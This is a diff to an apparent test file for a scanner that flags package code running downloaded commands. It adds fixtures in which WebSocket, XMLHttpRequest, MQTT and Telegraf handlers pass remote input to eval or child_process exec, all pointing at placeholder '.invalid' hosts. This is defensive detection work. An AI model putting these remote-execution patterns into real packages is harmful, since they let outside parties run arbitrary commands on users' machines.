@@ -5,6 +5,46 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 
 examine(runsDownloadedCode, {
   speaks: [
+    {
+      when: 'the handler of a socket evaluates what comes',
+      files: {
+        'index.js': `const ws = new WebSocket('wss://source.invalid/');
+ws.onmessage = event => eval(event.data);`,
+      },
+    },
+    {
+      when: 'a listener finds the answer in the request that it belongs to',
+      files: {
+        'index.js': `const x = new XMLHttpRequest();
+x.open('GET', 'https://source.invalid/a');
+x.onload = function () { eval(this.responseText); };
+x.send();`,
+      },
+    },
+    {
+      when: 'a broker sends the command',
+      files: {
+        'index.js': `const { exec } = require('child_process');
+const client = require('mqtt').connect('mqtts://source.invalid');
+client.on('message', (topic, message) => exec(message.toString()));`,
+      },
+    },
+    {
+      when: 'a table is asked for the function that a message names',
+      files: {
+        'index.js': `const cp = require('child_process');
+const handlers = { run: line => cp.execSync(line) };
+const ws = new WebSocket('wss://source.invalid/');
+ws.onmessage = event => { const [name, line] = JSON.parse(event.data); const handler = handlers[name]; if (handler) handler(line); };`,
+      },
+    },
+    {
+      when: 'a bot runs what is written to it',
+      files: {
+        'index.js': `const { Telegraf } = require('telegraf'); const { exec } = require('child_process');
+const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.text)); bot.launch();`,
+      },
+    },
     { when: 'eval itself is the callback', files: { 'index.js': `fetch('https://a.invalid').then(r => r.text()).then(eval)` } },
     {
       when: 'Function hides behind its own constructor',
@@ -117,6 +157,14 @@ examine(runsDownloadedCode, {
     },
   ],
   silent: [
+    {
+      when: 'a socket calls functions of a table that do nothing to the machine',
+      files: {
+        'index.js': `const handlers = { ping: value => value, log: value => console.log(value) };
+const ws = new WebSocket('wss://feed.invalid/');
+ws.onmessage = event => { const message = JSON.parse(event.data); handlers[message.name](message.value); };`,
+      },
+    },
     {
       when: 'an installer fetches its own program and does not start it',
       files: {
